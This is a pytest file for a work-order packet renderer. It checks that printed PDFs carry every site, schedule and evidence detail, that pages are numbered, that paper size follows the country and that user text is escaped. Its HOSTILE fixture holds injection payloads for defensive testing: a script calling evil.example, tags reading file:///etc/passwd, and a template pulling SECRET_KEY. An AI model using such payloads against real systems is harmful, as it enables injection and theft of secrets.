"""The printed page: everything on it, nothing hostile in it, nothing split."""

import re
from dataclasses import replace
from datetime import UTC, datetime, time
from decimal import Decimal
from html.parser import HTMLParser
from io import BytesIO

import pdfplumber
import pytest

from workorders.packet_html import packet_css, packet_html
from workorders.packets.compile import compile_packet
from workorders.packets.fingerprint import short
from workorders.packets.model import (
    AccessCard,
    ContactCard,
    EvidenceSpec,
    Fact,
    Material,
    PlanSpec,
    RolloutCard,
    Rule,
    SiteCard,
    StepSpec,
    VisitCard,
)
from workorders.packets.render import render_pdf

ISSUED = datetime(2027, 2, 20, 3, tzinfo=UTC)
URL = "https://example.com/p/3f9a2"
ROLLOUT = RolloutCard(
    "Alder & Finch", "Wi-Fi refresh", "W7", "+1 303 555 0142", "24 h", "Dana Whitfield", "+1 303 555 0177"
)
SITE = SiteCard(
    "S-1",
    "Larimer Square",
    "1439 Larimer Street",
    "Denver",
    "CO",
    "80202",
    "US",
    "America/Denver",
    39.7478,
    -104.9994,
    (ContactCard("Marisol Trent", "store manager", "+1 303 555 0110"),),
    tuple(AccessCard(day, time(22), time(6)) for day in range(5)),
    "Use the alley door.",
)
EVIDENCE = (
    EvidenceSpec("a", "confirmation", "Kit is complete"),
    EvidenceSpec("b", "photo", "Router sticker", True, {"must_show": ["serial is readable"]}),
    EvidenceSpec("c", "serial", "Router serial", True, {"expected": "RT-20417"}),
    EvidenceSpec("d", "reading", "Signal", True, {"low": -67, "high": -30, "unit": "dBm"}),
    EvidenceSpec("e", "choice", "Sign type", True, {"choices": ["Small sign", "Large sign"]}),
    EvidenceSpec("f", "text", "Damage you found", False),
    EvidenceSpec("g", "count", "Units removed", True, {"expected": 6, "unit": "units"}),
    EvidenceSpec("h", "signature", "Manager"),
)
PLAN = PlanSpec(
    3,
    "Refresh",
    (
        StepSpec(
            "kit",
            "prepare",
            "Check the kit",
            minutes=10,
            materials=(Material("Bracket", Decimal("2")),),
            tools=("Ladder",),
        ),
        StepSpec(
            "mount",
            "install",
            "Mount the unit",
            "Hold it.\n- Clip\n- Pull",
            95,
            2,
            "Test for dead first.",
            ("Working at height",),
            evidence=EVIDENCE,
            clauses=("4.1",),
        ),
    ),
)
HARD = Rule(
    "r",
    "Anchors",
    1,
    {"attribute": "ceiling", "op": "is", "value": "hard"},
    "set_crew",
    "mount",
    {"crew": 3},
    "It is heavy",
)
FACTS = {"ceiling": Fact("known", "hard", "Ceiling type")}


def content(plan=PLAN, site=SITE, rollout=ROLLOUT, **more):
    number = more.pop("number", "WO-7")
    return compile_packet(
        plan, [HARD] if plan is PLAN else [], site, FACTS, rollout=rollout, work_order_number=number, **more
    ).content


def html_of(data):
    return packet_html(data, live_url=URL, issued_at=ISSUED)


def words_of(pdf):
    with pdfplumber.open(BytesIO(pdf)) as document:
        return [re.sub(r"\s+", " ", sheet.extract_text() or "") for sheet in document.pages]


def printed(data):
    done = render_pdf(html_of(data), assets={}, css=packet_css())
    assert done.refused == ()
    return done, words_of(done.pdf)


@pytest.fixture(scope="module")
def small():
    return printed(
        content(visit=VisitCard(datetime(2027, 3, 3, 5, tzinfo=UTC), datetime(2027, 3, 3, 11, tzinfo=UTC)))
    )


@pytest.mark.parametrize(
    "said",
    [
        "Alder & Finch", "Wi-Fi refresh", "WO-7", "Larimer Square", "1439 Larimer Street", "Denver, CO 80202, US",
        "Tuesday 2 March 2027", "10:00 pm to 4:00 am", "Denver time (UTC−07:00)", "1 h 35 min", "3 people",
        "Marisol Trent, store manager", "Monday to Friday 10:00 pm to 6:00 am next day", "Saturday to Sunday No access",
        "Access in every week, site time", "Use the alley door.", "+1 303 555 0142", "+1 303 555 0177", "Is this the latest? Scan.", "What you will do",
        "2 × Bracket", "Ladder", "Skills needed: Working at height", "Check the kit", "Warning", "Test for dead first.",
        "Because ceiling type is hard. It is heavy.", "Ceiling type: hard", "clause 4.1", "Kit is complete", "serial is readable",
        "Must be RT-20417", "must be −67 to −30 dBm", "Small sign", "Large sign", "Write down, if there is one", "must be 6 units",
        "Sign off", "Site representative", "issued Fri 19 Feb 2027", "plan revision 3",
    ],
)  # fmt: skip
def test_the_packet_says(small, said):
    assert said in " ".join(small[1])


def test_every_page_is_numbered_and_named(small):
    done, pages = small
    fingerprint = short(
        compile_packet(PLAN, [HARD], SITE, FACTS, rollout=ROLLOUT, work_order_number="WO-7").fingerprint
    )
    plain, plain_pages = printed(content())
    assert all(f"page {number} of {plain.pages}" in text for number, text in enumerate(plain_pages, 1))
    assert all(fingerprint in text for text in plain_pages)
    assert all(fingerprint not in text for text in pages), "another visit is another packet"
    assert all(text.startswith("Larimer Square WO-7") for text in pages[1:])
    assert done.pages == len(pages) <= 3


@pytest.mark.parametrize(("country", "size"), [("US", (612, 792)), ("DE", (595, 842))])
def test_paper_is_what_the_country_uses(country, size):
    done, _ = printed(content(site=replace(SITE, country=country)))
    with pdfplumber.open(BytesIO(done.pdf)) as document:
        assert {(round(sheet.width), round(sheet.height)) for sheet in document.pages} == {size}


HOSTILE = (
    "<script>fetch('http://evil.example')</script>",
    "<img src='file:///etc/passwd'>",
    "</td></tr></table><b>out</b>",
    "{{ settings.SECRET_KEY }}{% include 'x' %}",
    "<link rel=attachment href='file:///etc/passwd'>",
)


class Tags(HTMLParser):
    """Collects every tag and every attribute value of a page."""

    def __init__(self):
        super().__init__()
        self.tags, self.links = set(), set()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.links |= {value for name, value in attrs if name in ("src", "href", "data")}


@pytest.mark.parametrize("evil", HOSTILE)
def test_hostile_text_stays_text_everywhere(evil):
    step = StepSpec(
        "x", "install", evil, evil, 5, 1, evil, (evil,), (evil,), (Material(evil, Decimal(1), evil),),
        tuple(EvidenceSpec(kind, kind, evil, True, {"must_show": [evil], "choices": [evil], "unit": evil, "expected": evil, "pattern": evil, "low": evil})
              for kind in ("confirmation", "photo", "serial", "reading", "choice", "text", "count", "signature")),
        (evil,),
    )  # fmt: skip
    site = SiteCard(
        evil,
        evil,
        evil,
        evil,
        evil,
        evil,
        evil,
        "UTC",
        None,
        None,
        (ContactCard(evil, evil, evil, evil),),
        (),
        evil,
    )
    data = content(PlanSpec(1, evil, (step,)), site, RolloutCard(*[evil] * 9), number=evil)
    page = html_of(data)
    tags = Tags()
    tags.feed(page)
    assert tags.tags.isdisjoint({"script", "img", "link", "style", "object", "iframe", "base"})
    assert tags.links == {URL}
    done, pages = printed(data)
    assert evil.replace(" ", "")[:12] in "".join(pages).replace(" ", "")
    assert done.pages < 12


def test_names_in_any_script_and_long_words_are_laid_out():
    site = SiteCard(
        "K", "イケア東京ベイ مركز دبي Москва ประเทศไทย", "x" * 300, "Łódź", "", "", "JP", "Asia/Tokyo"
    )
    done, pages = printed(content(site=site))
    with pdfplumber.open(BytesIO(done.pdf)) as document:
        right = max(char["x1"] for sheet in document.pages for char in sheet.chars)
        assert right <= document.pages[0].width - 40
    assert "Łódź" in pages[0]


def test_a_site_nobody_described_says_what_to_do():
    _, pages = printed(content(site=SiteCard("K", "Bare"), rollout=RolloutCard("A", "B")))
    text = " ".join(pages)
    for said in (
        "As agreed",
        "No contact is recorded. Call",
        "Access hours are not recorded.",
        "No number was given.",
    ):
        assert said in text


def test_boxes_and_headings_stay_with_their_step():
    steps = tuple(
        StepSpec(
            f"s{i}",
            "install",
            f"Step title {i}",
            "Several words of instruction. " * (3 + i % 5 * 9),
            10,
            evidence=EVIDENCE[: 1 + i % 8],
        )
        for i in range(24)
    )
    done, pages = printed(content(PlanSpec(1, "Long", steps)))
    assert done.pages > 6
    for i, step in enumerate(steps):
        (home,) = [text for text in pages if f"{step.title} " in text]
        after = home.split(f"{step.title} ")[1].split("Step title")[0]
        assert all(evidence.label in after for evidence in step.evidence), i


def test_the_same_packet_prints_the_same_page():
    assert html_of(content()) == html_of(content())


def test_the_page_has_no_inline_style_or_script():
    page = html_of(content())
    assert "<script" not in page
    assert "style=" not in page
